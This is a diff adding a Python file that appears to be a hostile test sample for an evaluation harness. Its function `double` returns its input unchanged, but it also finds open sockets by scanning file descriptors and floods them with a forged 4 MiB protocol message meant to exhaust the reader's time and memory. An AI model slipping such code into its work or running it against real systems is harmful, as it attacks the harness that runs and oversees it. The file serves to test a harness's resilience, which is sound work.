@@ -1,0 +1,38 @@
+"""Sends a header of 4 MiB that holds as many small arrays as fit, so that reading it costs time and memory.
+
+It is read in about a second, as a message of the size that is allowed; it is then a wrong answer.
+"""
+# score: 60
+# says: must be an array. It is a list of 270000.
+import os
+import stat
+import struct
+
+
+def frame(header, payload=b""):
+    return struct.pack(">II", len(header), len(payload)) + header + payload
+
+
+def tell(data):
+    for number in range(3, 256):
+        try:
+            if stat.S_ISSOCK(os.fstat(number).st_mode):
+                os.write(number, data)
+        except OSError:
+            pass
+
+
+calls = 0
+
+
+def double(x):
+    global calls
+    calls += 1
+    data = frame(b'["d",{"id":%d,"arguments":["l",[]],"value":["l",[%s]]}]' % (calls, b",".join([b'["a","b1",[0]]'] * 270_000)))
+    for start in range(0, len(data), 65536):
+        tell(data[start : start + 65536])
+    return x
+
+
+def half(x):
+    return float((x / 2).sum()), {"half": x / 2}
